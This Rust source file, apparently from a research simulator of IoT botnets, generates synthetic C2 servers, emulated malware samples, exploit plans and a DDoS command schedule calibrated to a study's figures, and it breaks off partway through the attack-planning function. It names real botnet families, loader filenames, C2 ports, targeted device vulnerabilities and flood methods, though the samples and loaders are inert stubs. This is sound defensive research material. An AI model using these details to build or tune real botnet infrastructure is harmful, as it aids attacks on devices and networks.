use malnet_netsim::time::{days_of_study_week, SimDuration, SimTime, STUDY_WEEKS};
use malnet_protocols::{AttackCommand, AttackMethod, Family};
use malnet_wire::dns::DomainName;

use crate::binary::emit_elf;
use crate::c2service::{C2Config, C2Log, C2Service, RespondMode, RespondState};
use crate::exploitdb::VulnId;
use crate::programs::compile;
use crate::spec::{BehaviorSpec, C2Endpoint, ExploitPlan};

/// The resolver address every sample hard-codes (the world installs a
/// real DNS service here for live runs).
pub const WORLD_RESOLVER: Ipv4Addr = Ipv4Addr::new(8, 8, 8, 8);

/// The 12 probing ports of Table 5 (Appendix B).
pub const PROBE_PORTS: [u16; 12] = [
    1312, 666, 1791, 9506, 606, 6738, 5555, 1014, 3074, 6969, 42516, 81,
];

/// Loader filenames with Figure 9 frequencies.
pub const LOADERS: [(&str, u32); 7] = [
    ("t8UsA2.sh", 14),
    ("Tsunamix6", 12),
    ("ddns.sh", 10),
    ("8UsA.sh", 8),
    ("wget.sh", 6),
    ("zyxel.sh", 4),
    ("jaws.sh", 2),
];

/// All calibration constants, annotated with the paper claim they target.
#[derive(Debug, Clone)]
pub struct Calibration {
    /// Family mix (Table 1's seven families; Mirai-dominant feeds).
    pub family_weights: [(Family, f64); 7],
    /// P(a sample's primary C2 is alive on its publish day) — §3.2 finds
    /// 60% dead on day 0.
    pub primary_live_rate: f64,
    /// P(observed lifespan is one day | discovered live) — Figure 2: 80%.
    pub lifespan_one_day: f64,
    /// Geometric tail parameter for multi-day lifespans (mean ≈ 4 days
    /// overall, max ≈ 45).
    pub lifespan_tail_p: f64,
    /// Fraction of C2 endpoints that are DNS names (Table 3 implies ~5%).
    pub dns_endpoint_rate: f64,
    /// Fraction of samples carrying exploit arsenals (197/1447 succeed;
    /// generate a margin for activation losses).
    pub exploiter_rate: f64,
    /// Fraction of samples that fail to activate (corrupt/hostile) —
    /// §6f reports a 90% activation rate.
    pub corrupt_rate: f64,
    /// Fraction of samples with the DNS connectivity-check evasion.
    pub evasive_rate: f64,
    /// Per-sample count of C2 endpoints (primary + fallbacks) weights
    /// (index = count-1). Drives Figure 5 together with reuse.
    pub c2_refs_weights: [f64; 6],
    /// P(reuse an actively-recruiting C2) vs minting a new one.
    pub c2_reuse_rate: f64,
    /// Days a C2 keeps recruiting new samples after first reference.
    pub recruit_window: u32,
    /// Weekly arrival weights multiplier for 2022 weeks (paper: more
    /// samples since January 2022) and the week-28 peak.
    pub late_weeks_boost: f64,
    /// Extra boost for study week 28.
    pub week28_boost: f64,
}

impl Default for Calibration {
    fn default() -> Self {
        Calibration {
            family_weights: [
                (Family::Mirai, 0.42),
                (Family::Gafgyt, 0.27),
                (Family::Mozi, 0.12),
                (Family::Tsunami, 0.08),
                (Family::Daddyl33t, 0.05),
                (Family::Hajime, 0.04),
                (Family::VpnFilter, 0.02),
            ],
            primary_live_rate: 0.35,
            lifespan_one_day: 0.85,
            lifespan_tail_p: 0.075,
            dns_endpoint_rate: 0.047,
            exploiter_rate: 0.155,
            corrupt_rate: 0.06,
            evasive_rate: 0.10,
            c2_refs_weights: [0.06, 0.08, 0.12, 0.18, 0.26, 0.30],
            c2_reuse_rate: 0.87,
            recruit_window: 35,
            late_weeks_boost: 2.3,
            week28_boost: 5.0,
        }
    }
}

/// World generation parameters.
#[derive(Debug, Clone)]
pub struct WorldConfig {
    /// Master seed.
    pub seed: u64,
    /// Corpus size (paper: 1447).
    pub n_samples: usize,
    /// Calibration constants.
    pub cal: Calibration,
}

impl Default for WorldConfig {
    fn default() -> Self {
        WorldConfig {
            seed: 22,
            n_samples: 1447,
            cal: Calibration::default(),
        }
    }
}

/// Ground truth for one C2 server.
#[derive(Debug, Clone)]
pub struct C2Truth {
    /// Index into [`World::c2s`].
    pub id: usize,
    /// The address samples carry (IP or domain).
    pub endpoint: C2Endpoint,
    /// The host's actual address.
    pub host_ip: Ipv4Addr,
    /// C2 listening port.
    pub port: u16,
    /// Protocol family.
    pub family: Family,
    /// Hosting AS.
    pub asn: Asn,
    /// First day the host is up.
    pub born_day: u32,
    /// First day the host is down again (up on `born..dead`).
    pub dead_day: u32,
    /// Session responsiveness.
    pub respond: RespondMode,
    /// Loader served on port 80, if this C2 doubles as a downloader.
    pub serves_loader: Option<String>,
    /// Persistent responsiveness-chain state (shared with the service).
    pub respond_state: RespondState,
}

impl C2Truth {
    /// Is the host up on `day`?
    pub fn alive_on(&self, day: u32) -> bool {
        (self.born_day..self.dead_day).contains(&day)
    }

    /// The address string the pipeline reports (IP or domain).
    pub fn addr_string(&self) -> String {
        self.endpoint.to_string()
    }

    /// Is the endpoint DNS-named?
    pub fn is_dns(&self) -> bool {
        matches!(self.endpoint, C2Endpoint::Domain(_))
    }
}

/// Ground truth for one sample.
#[derive(Debug, Clone)]
pub struct SampleTruth {
    /// Index into [`World::samples`].
    pub id: usize,
    /// Pseudo-SHA256 of the binary (hex).
    pub sha256: String,
    /// Family.
    pub family: Family,
    /// Day the sample appears on the feeds.
    pub publish_day: u32,
    /// Behaviour specification.
    pub spec: BehaviorSpec,
    /// The emitted ELF bytes.
    pub elf: Vec<u8>,
    /// C2 ids referenced (primary first).
    pub c2_ids: Vec<usize>,
    /// Binary is corrupt and fails to activate.
    pub corrupted: bool,
    /// AV engines flagging it (corpus-vetting model).
    pub av_detections: u32,
}

/// One designated DDoS observation: sample, C2 and commands.
#[derive(Debug, Clone)]
pub struct AttackPlan {
    /// The sample that receives the commands.
    pub sample_id: usize,
    /// The issuing C2.
    pub c2_id: usize,
    /// The commands (delay after login).
    pub commands: Vec<(SimDuration, AttackCommand)>,
}

/// The generated world.
pub struct World {
    /// Generation parameters.
    pub cfg: WorldConfig,
    /// The AS-level Internet.
    pub asdb: AsDb,
    /// All C2 servers.
    pub c2s: Vec<C2Truth>,
    /// The malware corpus in publish order.
    pub samples: Vec<SampleTruth>,
    /// Standalone (non-C2) downloader hosts.
    pub downloaders: Vec<(Ipv4Addr, String)>,
    /// The DDoS observation plan.
    pub attacks: Vec<AttackPlan>,
    /// Commands a C2 issues into engaged sessions on a given day.
    pub attack_schedule: BTreeMap<(usize, u32), Vec<(SimDuration, AttackCommand)>>,
    /// The 6 probing subnets (D-PC2).
    pub probe_subnets: Vec<Prefix>,
    /// Ids of the 7 C2s living in the probe subnets.
    pub probe_c2_ids: Vec<usize>,
    /// First day of the 2-week probing window.
    pub probe_start_day: u32,
}

// Compile-time guarantee: worker threads running contained activations
// may share one `&World` (parallel pipeline stage).
const _: () = {
    const fn assert_sync<T: Sync>() {}
    const fn assert_send<T: Send>() {}
    assert_sync::<World>();
    assert_send::<World>();
};

/// Weighted reuse choice: linear rich-get-richer, saturating near the
/// paper's observed maximum (~18 samples per C2) so no runaway hubs form.
fn pick_weighted(rng: &mut StdRng, candidates: &[usize], ref_counts: &[u32]) -> usize {
    let weight = |cid: usize| -> u64 {
        let r = u64::from(ref_counts.get(cid).copied().unwrap_or(0));
        if r >= 17 {
            return 1; // saturated: as unlikely as a fresh C2
        }
        1 + 3 * r
    };
    let total: u64 = candidates.iter().map(|&c| weight(c)).sum();
    let mut pick = rng.gen_range(0..total.max(1));
    for &c in candidates {
        let w = weight(c);
        if pick < w {
            return c;
        }
        pick -= w;
    }
    candidates[0]
}

fn pseudo_sha256(bytes: &[u8]) -> String {
    // Four rounds of FNV-1a with different offsets — not cryptographic,
    // just a stable 64-hex-char identity for reports.
    let mut out = String::with_capacity(64);
    for salt in 0u64..4 {
        let mut h = 0xcbf2_9ce4_8422_2325u64 ^ salt.wrapping_mul(0x9e37_79b9_7f4a_7c15);
        for &b in bytes {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x1000_0000_01b3);
        }
        out.push_str(&format!("{h:016x}"));
    }
    out
}

fn weighted_family(rng: &mut StdRng, weights: &[(Family, f64)]) -> Family {
    let total: f64 = weights.iter().map(|(_, w)| w).sum();
    let mut pick = rng.gen_range(0.0..total);
    for (f, w) in weights {
        if pick < *w {
            return *f;
        }
        pick -= w;
    }
    weights[0].0
}

impl World {
    /// Generate the world.
    pub fn generate(cfg: WorldConfig) -> World {
        let mut rng = StdRng::seed_from_u64(cfg.seed ^ 0x0077_0a1d);
        Self::generate_inner(cfg, &mut rng)
    }

    fn generate_inner(cfg: WorldConfig, rng: &mut StdRng) -> World {
        let cal = cfg.cal.clone();
        // 128 ASes total: 10 Table-2 + 5 named + 95 hosting + 12 ISP +
        // 3 gaming + 3 business. Target-side ASes come extra.
        let mut asdb = standard_internet(95, 12, 3, 3);

        // --- arrival schedule ---
        let mut week_weights: Vec<(u32, f64)> = (1..=STUDY_WEEKS)
            .map(|w| {
                let mut wt = if w == 1 { 0.5 } else { 1.0 };
                if w >= 21 {
                    wt *= cal.late_weeks_boost;
                }
                if w == 28 {
                    wt *= cal.week28_boost / cal.late_weeks_boost;
                }
                (w, wt)
            })
            .collect();
        let total_w: f64 = week_weights.iter().map(|(_, w)| w).sum();
        for (_, w) in &mut week_weights {
            *w /= total_w;
        }
        let mut publish_days: Vec<u32> = Vec::with_capacity(cfg.n_samples);
        for _ in 0..cfg.n_samples {
            let mut pick = rng.gen_range(0.0..1.0);
            let mut week = 1;
            for (w, wt) in &week_weights {
                if pick < *wt {
                    week = *w;
                    break;
                }
                pick -= wt;
            }
            let days = days_of_study_week(week).expect("valid week");
            publish_days.push(rng.gen_range(days.start..days.end));
        }
        publish_days.sort_unstable();

        // --- C2-hosting AS weights (Table 2: top-10 host 69.7%) ---
        let mut as_weights: Vec<(Asn, f64)> = Vec::new();
        let table2_share = [
            0.135, 0.105, 0.09, 0.08, 0.07, 0.06, 0.055, 0.05, 0.03, 0.022,
        ];
        for (i, (_, asn, ..)) in malnet_netsim::asdb::TABLE2_ASES.iter().enumerate() {
            as_weights.push((Asn(*asn), table2_share[i]));
        }
        let rest: Vec<Asn> = asdb
            .records()
            .iter()
            .filter(|r| {
                !malnet_netsim::asdb::TABLE2_ASES
                    .iter()
                    .any(|t| t.1 == r.asn.0)
            })
            .map(|r| r.asn)
            .collect();
        let rest_share = (1.0 - 0.697) / rest.len() as f64;
        for asn in rest {
            as_weights.push((asn, rest_share));
        }

        let pick_asn = |rng: &mut StdRng| -> Asn {
            let total: f64 = as_weights.iter().map(|(_, w)| w).sum();
            let mut pick = rng.gen_range(0.0..total);
            for (a, w) in &as_weights {
                if pick < *w {
                    return *a;
                }
                pick -= w;
            }
            as_weights[0].0
        };

        // --- loader name pool (Figure 9 weights) ---
        let pick_loader = |rng: &mut StdRng| -> String {
            let total: u32 = LOADERS.iter().map(|(_, w)| w).sum();
            let mut pick = rng.gen_range(0..total);
            for (name, w) in LOADERS {
                if pick < w {
                    return name.to_string();
                }
                pick -= w;
            }
            LOADERS[0].0.to_string()
        };

        // --- build samples day by day, minting/reusing C2s ---
        let mut c2s: Vec<C2Truth> = Vec::new();
        let mut ref_counts: Vec<u32> = Vec::new();
        // "Infrastructure hubs": ~a fifth of C2s serve large sample
        // cohorts (Figure 5: ~20% of C2 IPs contacted by >10 binaries).
        // hub_targets[cid] > 0 marks a hub and its recruiting target.
        let mut hub_targets: Vec<u32> = Vec::new();
        let mut samples: Vec<SampleTruth> = Vec::new();
        // Recruiting pools per family: ids of C2s still taking samples.
        let mut recruiting: BTreeMap<Family, Vec<usize>> = BTreeMap::new();
        let mut dirty_ports = vec![23u16, 48101, 666, 1312, 3074, 6969, 42516, 9506, 1791, 6738];
        dirty_ports.shuffle(rng);

        let mint_c2 = |rng: &mut StdRng,
                       asdb: &mut AsDb,
                       c2s: &mut Vec<C2Truth>,
                       family: Family,
                       day: u32,
                       force_live: Option<bool>|
         -> usize {
            let id = c2s.len();
            let asn = pick_asn(rng);
            let host_ip = asdb
                .alloc_ip(asn)
                .unwrap_or_else(|| Ipv4Addr::new(44, (id >> 8) as u8, id as u8, 1));
            let endpoint = if rng.gen_bool(cal.dns_endpoint_rate) {
                C2Endpoint::Domain(format!("c{id}.dyn-{}.example-cdn.net", id % 97))
            } else {
                C2Endpoint::Ip(host_ip)
            };
            let port = dirty_ports[id % dirty_ports.len()];
            let live = force_live.unwrap_or_else(|| rng.gen_bool(cal.primary_live_rate));
            let (born_day, dead_day) = if live {
                let observed = if rng.gen_bool(cal.lifespan_one_day) {
                    1
                } else {
                    // Geometric tail, capped at 45 days (Figure 2 x-range).
                    let mut o = 2;
                    while o < 45 && !rng.gen_bool(cal.lifespan_tail_p) {
                        o += 1;
                    }
                    o
                };
                (day.saturating_sub(rng.gen_range(0..3)), day + observed)
            } else {
                // Died before the sample surfaced.
                let dead = day.saturating_sub(rng.gen_range(1..6)).max(1);
                (dead.saturating_sub(rng.gen_range(1..10)), dead)
            };
            c2s.push(C2Truth {
                id,
                endpoint,
                host_ip,
                port,
                family,
                asn,
                born_day,
                dead_day,
                respond: RespondMode::elusive(),
                serves_loader: None,
                respond_state: RespondState::default(),
            });
            id
        };

        for (id, &publish_day) in publish_days.iter().enumerate() {
            let family = weighted_family(rng, &cal.family_weights);
            let mut c2_ids: Vec<usize> = Vec::new();
            if !family.is_p2p() {
                // Primary + fallbacks.
                let n_refs = {
                    let total: f64 = cal.c2_refs_weights.iter().sum();
                    let mut pick = rng.gen_range(0.0..total);
                    let mut n = 1;
                    for (i, w) in cal.c2_refs_weights.iter().enumerate() {
                        if pick < *w {
                            n = i + 1;
                            break;
                        }
                        pick -= w;
                    }
                    n
                };
                {
                    let pool = recruiting.entry(family).or_default();
                    // Drop C2s whose recruiting window lapsed.
                    pool.retain(|&cid| {
                        publish_day.saturating_sub(c2s[cid].born_day) <= cal.recruit_window
                    });
                }
                for k in 0..n_refs {
                    // A duplicate pick (same C2 chosen twice for one
                    // sample) retries once so hub pulls don't shrink the
                    // per-sample reference count.
                    for _attempt in 0..2 {
                        let pool_snapshot: Vec<usize> =
                            recruiting.get(&family).cloned().unwrap_or_default();
                        let cid = if k == 0 {
                            // The primary's liveness drives the §3.2 dead-on-
                            // arrival statistic: pin it to the target rate.
                            let want_live = rng.gen_bool(cal.primary_live_rate);
                            let candidates: Vec<usize> = pool_snapshot
                                .iter()
                                .copied()
                                .filter(|&cid| c2s[cid].alive_on(publish_day) == want_live)
                                .collect();
                            if !candidates.is_empty() && rng.gen_bool(cal.c2_reuse_rate) {
                                // Prefer an unfilled hub; else preferential
                                // attachment over the recruiting pool.
                                let hubs: Vec<usize> = candidates
                                    .iter()
                                    .copied()
                                    .filter(|&c| {
                                        hub_targets.get(c).copied().unwrap_or(0) > 0
                                            && ref_counts.get(c).copied().unwrap_or(0)
                                                < hub_targets[c]
                                    })
                                    .collect();
                                if !hubs.is_empty() && rng.gen_bool(0.65) {
                                    hubs[rng.gen_range(0..hubs.len())]
                                } else {
                                    pick_weighted(rng, &candidates, &ref_counts)
                                }
                            } else {
                                let new_id = mint_c2(
                                    rng,
                                    &mut asdb,
                                    &mut c2s,
                                    family,
                                    publish_day,
                                    Some(want_live),
                                );
                                recruiting.entry(family).or_default().push(new_id);
                                new_id
                            }
                        } else if !pool_snapshot.is_empty() && rng.gen_bool(cal.c2_reuse_rate) {
                            let hubs: Vec<usize> = pool_snapshot
                                .iter()
                                .copied()
                                .filter(|&c| {
                                    hub_targets.get(c).copied().unwrap_or(0) > 0
                                        && ref_counts.get(c).copied().unwrap_or(0) < hub_targets[c]
                                })
                                .collect();
                            if !hubs.is_empty() && rng.gen_bool(0.75) {
                                hubs[rng.gen_range(0..hubs.len())]
                            } else {
                                pick_weighted(rng, &pool_snapshot, &ref_counts)
                            }
                        } else {
                            // Fallback endpoints are almost always stale.
                            let stale_live = rng.gen_bool(0.02);
                            let new_id = mint_c2(
                                rng,
                                &mut asdb,
                                &mut c2s,
                                family,
                                publish_day,
                                Some(stale_live),
                            );
                            recruiting.entry(family).or_default().push(new_id);
                            new_id
                        };
                        if !c2_ids.contains(&cid) {
                            c2_ids.push(cid);
                            while ref_counts.len() < c2s.len() {
                                ref_counts.push(0);
                            }
                            while hub_targets.len() < c2s.len() {
                                // Newly minted: a fraction become hubs.
                                let is_hub = rng.gen_bool(0.22);
                                hub_targets.push(if is_hub { 12 + rng.gen_range(0..9) } else { 0 });
                            }
                            ref_counts[cid] += 1;
                            break; // pick accepted; no retry needed
                        }
                    }
                }
            }

            samples.push(SampleTruth {
                id,
                sha256: String::new(),
                family,
                publish_day,
                spec: BehaviorSpec::default(), // filled below
                elf: Vec::new(),
                c2_ids,
                corrupted: rng.gen_bool(cal.corrupt_rate),
                av_detections: 0,
            });
        }

        // --- downloaders: 47 distinct; 35 co-located with C2s, 12 not ---
        let mut downloaders: Vec<(Ipv4Addr, String)> = Vec::new();
        let mut dl_pool: Vec<(Ipv4Addr, String)> = Vec::new();
        let candidate_c2s: Vec<usize> = (0..c2s.len().min(800)).collect();
        let co_located = candidate_c2s
            .choose_multiple(rng, 35.min(c2s.len()))
            .copied()
            .collect::<Vec<_>>();
        for cid in co_located {
            let loader = pick_loader(rng);
            c2s[cid].serves_loader = Some(loader.clone());
            dl_pool.push((c2s[cid].host_ip, loader));
        }
        for i in 0..12 {
            let asn = pick_asn(rng);
            let ip = asdb
                .alloc_ip(asn)
                .unwrap_or_else(|| Ipv4Addr::new(45, 0, i as u8, 7));
            let loader = pick_loader(rng);
            downloaders.push((ip, loader.clone()));
            dl_pool.push((ip, loader));
        }

        // --- exploit arsenals (Table 4 proportions) ---
        let group_reps: [(u8, VulnId, u32); 12] = [
            (1, VulnId::Gpon10561, 139),
            (2, VulnId::DlinkHnap, 132),
            (3, VulnId::Zyxel, 38),
            (4, VulnId::VacronNvr, 46),
            (5, VulnId::HuaweiHg532, 1),
            (6, VulnId::MvpowerDvr, 74),
            (7, VulnId::Dlink45382, 3),
            (8, VulnId::LinksysE, 2),
            (9, VulnId::EirD1000, 9),
            (10, VulnId::ThinkPhp, 2),
            (11, VulnId::Nuuo, 1),
            (12, VulnId::NetlinkGpon, 2),
        ];
        let group_total: u32 = group_reps.iter().map(|(_, _, w)| w).sum();
        let n_exploiters = ((cfg.n_samples as f64) * cal.exploiter_rate) as usize;
        let exploiter_ids: Vec<usize> = {
            let eligible: Vec<usize> = samples
                .iter()
                .filter(|s| !s.family.is_p2p() && s.family != Family::VpnFilter)
                .map(|s| s.id)
                .collect();
            eligible
                .choose_multiple(rng, n_exploiters.min(eligible.len()))
                .copied()
                .collect()
        };
        for &sid in &exploiter_ids {
            let k = 1 + rng.gen_range(0..3) + usize::from(rng.gen_bool(0.4));
            let mut groups: Vec<VulnId> = Vec::new();
            for _ in 0..k {
                let mut pick = rng.gen_range(0..group_total);
                for (_, v, w) in group_reps {
                    if pick < w {
                        if !groups.contains(&v) {
                            groups.push(v);
                        }
                        break;
                    }
                    pick -= w;
                }
            }
            let (dl_ip, loader) = dl_pool[rng.gen_range(0..dl_pool.len())].clone();
            let full_gpon = rng.gen_bool(129.0 / 139.0);
            samples[sid].spec.exploits = groups
                .into_iter()
                .map(|vuln| ExploitPlan {
                    vuln,
                    downloader: dl_ip,
                    loader: loader.clone(),
                    full_gpon,
                })
                .collect();
        }

        // --- DDoS plan (§5): 42 commands, 17 C2s, 20 samples ---
        let (attacks, attack_schedule) = plan_attacks(rng, &mut asdb, &mut c2s, &mut samples);

        // --- probing theatre (D-PC2) ---
        let probe_start_day = 340;
        let mut probe_subnets = Vec::new();
        let mut probe_c2_ids = Vec::new();
        for i in 0..6 {
            let base = Ipv4Addr::new(77, 99, i as u8, 0);
            probe_subnets.push(Prefix::new(base, 24));
        }
        for i in 0..7 {
            let subnet = &probe_subnets[i % 6];
            let host_ip = subnet.host(10 + i as u32 * 13).expect("room in /24");
            let id = c2s.len();
            let family = if i % 2 == 0 {
                Family::Gafgyt
            } else {
                Family::Mirai
            };
            c2s.push(C2Truth {
                id,
                endpoint: C2Endpoint::Ip(host_ip),
                host_ip,
                port: PROBE_PORTS[i % PROBE_PORTS.len()],
                family,
                asn: Asn(53667), // FranTech: a Table-2 hoster
                born_day: probe_start_day - 3,
                dead_day: probe_start_day + 17,
                respond: RespondMode::elusive(),
                serves_loader: None,
                respond_state: RespondState::default(),
            });
            probe_c2_ids.push(id);
        }

        // --- finalize specs, compile and emit binaries ---
        let attack_sample_ids: std::collections::BTreeSet<usize> =
            attacks.iter().map(|a| a.sample_id).collect();
        for s in &mut samples {
            let mut spec = BehaviorSpec {
                family: s.family,
                bot_id: s.id as u32 + 1,
                // Evasive samples die under the real resolver; the DDoS
                // observation set must stay activatable end-to-end.
                evasive: !attack_sample_ids.contains(&s.id) && rng.gen_bool(cal.evasive_rate),
                banner: match s.family {
                    Family::Mirai => "/bin/busybox MIRAI".to_string(),
                    Family::Gafgyt => "BUILD GAFGYT".to_string(),
                    Family::Tsunami => "NICK iotbot".to_string(),
                    Family::Daddyl33t => "l33t botkit v6".to_string(),
                    Family::Mozi => "Mozi.m".to_string(),
                    Family::Hajime => "hajime-node".to_string(),
                    Family::VpnFilter => "vpnfilter stage2".to_string(),
                },
                exploits: std::mem::take(&mut s.spec.exploits),
                resolver: WORLD_RESOLVER,
                scan_base: Ipv4Addr::new(100, 70, (s.id % 40) as u8, 0),
                scan_mask: 0x0000_00ff,
                scan_burst: 3,
                syn_multi_sport: s.id % 2 == 0,
                attack_pps: 150 + (s.id as u32 % 4) * 50,
                ..Default::default()
            };
            if s.family.is_p2p() {
                spec.peers = (0..3 + s.id % 4)
                    .map(|k| {
                        (
                            Ipv4Addr::new(88, 10, (k % 7) as u8, 10 + (s.id % 200) as u8),
                            malnet_protocols::mozi::MOZI_PORT,
                        )
                    })
                    .collect();
            } else {
                spec.c2 = s
                    .c2_ids
                    .iter()
                    .map(|&cid| (c2s[cid].endpoint.clone(), c2s[cid].port))
                    .collect();
            }
            let program = compile(&spec);
            let junk: Vec<u8> = (0..64)
                .map(|k| {
                    let v = (s.id as u32)
                        .wrapping_mul(2654435761)
                        .wrapping_add(k * 40503);
                    (v >> 16) as u8
                })
                .collect();
            let mut elf = emit_elf(&program, &junk);
            if s.corrupted {
                // Damage the first bytecode record (right after the MNBC
                // config header) so the stub hits an unknown opcode and
                // aborts — a failed activation (§6f).
                if let Some(pos) = elf.windows(4).position(|w| w == b"MNBC") {
                    elf[pos + 20] = 0xff;
                }
            }
            s.sha256 = pseudo_sha256(&elf);
            s.elf = elf;
            s.spec = spec;
            s.av_detections = malnet_intel_engine_stub(rng);
        }

        World {
            cfg,
            asdb,
            c2s,
            samples,
            downloaders,
            attacks,
            attack_schedule,
            probe_subnets,
            probe_c2_ids,
            probe_start_day,
        }
    }

    /// Reset every C2's Markov responsiveness chain to its initial
    /// (silent) state.
    ///
    /// The chains deliberately persist across per-day networks *within*
    /// one study run — a server's mood does not reset at midnight — but
    /// they live in the world, so a second run over the same `World`
    /// would otherwise start where the first left off and silently
    /// diverge. The pipeline calls this at the start of every run so a
    /// run is a pure function of `(world, opts)`.
    pub fn reset_respond_chains(&self) {
        for c2 in &self.c2s {
            *c2.respond_state.lock().unwrap() = false;
        }
    }

    /// Samples published on `day`, in id order.
    pub fn samples_published_on(&self, day: u32) -> Vec<&SampleTruth> {
        self.samples
            .iter()
            .filter(|s| s.publish_day == day)
            .collect()
    }

    /// All publish days, sorted and deduplicated.
    pub fn publish_days(&self) -> Vec<u32> {
        let mut days: Vec<u32> = self.samples.iter().map(|s| s.publish_day).collect();
        days.sort_unstable();
        days.dedup();
        days
    }

    /// Build the live network for `day`: DNS, every C2 host that exists
    /// that day (up or down per its schedule), standalone downloaders,
    /// and the probing theatre when the window is open.
    ///
    /// C2 services share the world's persistent Markov
    /// responsiveness-chain state ([`C2Truth::respond_state`]), so
    /// sessions on successive networks built from the same world
    /// continue one chain. That coupling is what forces sequential
    /// execution; callers that fan networks out across worker threads
    /// must use [`World::network_for_day_detached`] instead.
    pub fn network_for_day(&self, day: u32, seed: u64) -> (Network, Vec<C2Log>) {
        self.build_network(day, seed, false)
    }

    /// Like [`World::network_for_day`], but every C2 service gets a
    /// **fresh, private** responsiveness-chain state instead of sharing
    /// the world's. The returned network is then a pure function of
    /// `(world, day, seed)` — safe to build and run concurrently on any
    /// worker thread without racing other networks, which is what the
    /// parallel restricted-session and prober stages rely on
    /// (DESIGN.md §8). Chains start in the "last session silent" state,
    /// exactly like a freshly generated world's.
    pub fn network_for_day_detached(&self, day: u32, seed: u64) -> (Network, Vec<C2Log>) {
        self.build_network(day, seed, true)
    }

    fn build_network(&self, day: u32, seed: u64, detached: bool) -> (Network, Vec<C2Log>) {
        let mut net = Network::new(SimTime::from_day(day, 0), seed ^ u64::from(day) << 17);
        // DNS.
        let zone = DnsHandle::new();
        for c2 in &self.c2s {
            if let C2Endpoint::Domain(d) = &c2.endpoint {
                if let Ok(name) = DomainName::new(d) {
                    zone.set(name, vec![c2.host_ip]);
                }
            }
        }
        net.add_service_host(WORLD_RESOLVER, Box::new(DnsService::new(zone)));
        // C2 hosts.
        let mut logs = Vec::with_capacity(self.c2s.len());
        for c2 in &self.c2s {
            let commands = self
                .attack_schedule
                .get(&(c2.id, day))
                .cloned()
                .unwrap_or_default();
            let cfg = C2Config {
                family: c2.family,
                port: c2.port,
                respond: if commands.is_empty() {
                    c2.respond
                } else {
                    RespondMode::Always
                },
                commands_on_login: commands,
                serve_loader: c2.serves_loader.clone(),
            };
            let log = C2Log::default();
            let state = if detached {
                RespondState::default()
            } else {
                c2.respond_state.clone()
            };
            net.add_service_host(
                c2.host_ip,
                Box::new(C2Service::with_state(cfg, log.clone(), state)),
            );
            if !c2.alive_on(day) {
                net.set_host_up(c2.host_ip, false);
            }
            logs.push(log);
        }
        // Standalone downloaders.
        for (ip, loader) in &self.downloaders {
            // HttpFileServer's constructor takes a HashMap; one entry,
            // looked up by path only. lint: hash-ok
            let mut files = HashMap::new();
            files.insert(
                format!("/{loader}"),
                format!("#!/bin/sh\n# {loader}\n").into_bytes(),
            );
            net.add_service_host(
                *ip,
                Box::new(malnet_netsim::services::HttpFileServer::new(80, files)),
            );
        }
        // Probing theatre decoys.
        if (self.probe_start_day..self.probe_start_day + 14).contains(&day) {
            for (i, subnet) in self.probe_subnets.iter().enumerate() {
                // A banner decoy (filtered out by the prober) ...
                let banner_ip = subnet.host(60 + i as u32).expect("room");
                if !net.has_host(banner_ip) {
                    net.add_service_host(
                        banner_ip,
                        Box::new(BannerService::apache(PROBE_PORTS.to_vec())),
                    );
                }
                // ... and a silent sink that accepts but never responds.
                let sink_ip = subnet.host(80 + i as u32).expect("room");
                if !net.has_host(sink_ip) {
                    net.add_service_host(sink_ip, Box::new(SinkService::new(PROBE_PORTS.to_vec())));
                }
            }
        }
        (net, logs)
    }
}

/// Build the §5 attack plan. Mutates C2/sample truths (attack C2s are
/// re-hosted into US/NL/CZ ASes and made long-lived).
type AttackSchedule = BTreeMap<(usize, u32), Vec<(SimDuration, AttackCommand)>>;

fn plan_attacks(
    rng: &mut StdRng,
    asdb: &mut AsDb,
    c2s: &mut [C2Truth],
    samples: &mut [SampleTruth],
) -> (Vec<AttackPlan>, AttackSchedule) {
    // Per-family command menus (Figure 11).
    #[allow(clippy::type_complexity)]
    let menus: [(Family, &[(AttackMethod, u32)], usize, usize); 3] = [
        (
            Family::Mirai,
            &[
                (AttackMethod::UdpFlood, 10),
                (AttackMethod::SynFlood, 4),
                (AttackMethod::TlsFlood, 3),
                (AttackMethod::Stomp, 2),
            ],
            8, // C2s
            9, // samples
        ),
        (
            Family::Gafgyt,
            &[
                (AttackMethod::UdpFlood, 3),
                (AttackMethod::Std, 2),
                (AttackMethod::Vse, 1),
            ],
            3,
            4,
        ),
        (
            Family::Daddyl33t,
            &[
                (AttackMethod::UdpFlood, 6),
                (AttackMethod::SynFlood, 4),
                (AttackMethod::TlsFlood, 3),
                (AttackMethod::Blacknurse, 2),
                (AttackMethod::Nfo, 2),
            ],
            6,
            7,
        ),
    ];

    // Target pool: 23 ASes / 11 countries; 45% ISP, 36% hosting (18% of
    // the ASes gaming), the rest businesses incl. Google/Amazon/Roblox.
    let mut target_asns: Vec<Asn> = Vec::new();
    let isp_asns: Vec<Asn> = asdb
        .records()
        .iter()
        .filter(|r| r.kind == AsKind::Isp)
        .map(|r| r.asn)
        .take(10)
        .collect();
    let host_asns: Vec<Asn> = asdb
        .records()
        .iter()
        .filter(|r| r.kind == AsKind::Hosting && r.asn.0 >= 60_000)
        .map(|r| r.asn)
        .take(4)
        .collect();
    let gaming_asns: Vec<Asn> = asdb
        .records()
        .iter()
        .filter(|r| r.kind == AsKind::GamingHosting)
        .map(|r| r.asn)
        .take(4)
        .collect();
    target_asns.extend(isp_asns);
    target_asns.extend(host_asns);
    target_asns.extend(gaming_asns);
    for big in [15169u32, 16509, 22697, 63_000, 63_001] {
        if asdb.get(Asn(big)).is_some() {
            target_asns.push(Asn(big));
        }
    }
    let mut targets: Vec<Ipv4Addr> = Vec::new();
    for (i, asn) in target_asns.iter().cycle().take(28).enumerate() {
        let ip = asdb
            .alloc_ip(*asn)
            .unwrap_or_else(|| Ipv4Addr::new(203, 0, 113, i as u8 + 1));
        targets.push(ip);
    }

    // Attack C2 hosting: 80% of commands from US/NL/CZ servers.
    let us_nl_cz: Vec<Asn> = asdb
        .records()
        .iter()
        .filter(|r| matches!(r.country, "US" | "NL" | "CZ") && r.is_hosting())
        .map(|r| r.asn)
        .collect();
    let elsewhere: Vec<Asn> = asdb
        .records()
        .iter()
        .filter(|r| matches!(r.country, "RU" | "FR" | "DE") && r.is_hosting())
        .map(|r| r.asn)
        .collect();

    let mut plans: Vec<AttackPlan> = Vec::new();
    let mut schedule: AttackSchedule = BTreeMap::new();
    // Delay-slot cursor per (c2, day): commands land 12 minutes apart so
    // the bot never receives two coalesced into one read.
    let mut delay_cursor: BTreeMap<(usize, u32), u64> = BTreeMap::new();
